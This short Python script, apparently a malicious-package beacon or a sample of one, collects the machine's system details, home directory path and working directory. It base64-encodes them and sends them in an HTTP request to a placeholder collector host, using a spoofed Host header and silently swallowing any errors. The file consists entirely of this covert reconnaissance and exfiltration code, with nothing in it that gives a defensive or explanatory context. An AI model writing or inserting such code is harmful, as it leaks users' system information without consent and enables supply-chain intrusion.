from urllib import request
import json, os, base64
def attempt(func, *args):
    try:
        return func(*args)
    except:
        return 'err'
data = {'h': attempt(os.uname), 'd': attempt(os.path.expanduser, '~'), 'c': attempt(os.getcwd)}
data = json.dumps(data)
encoded = str(base64.urlsafe_b64encode(data.encode("utf-8")), "utf-8")
r = request.Request('https://collector.invalid/reqs?d=', data=encoded, headers={'Host': 'other.collector.invalid'})
k = request.urlopen(r)
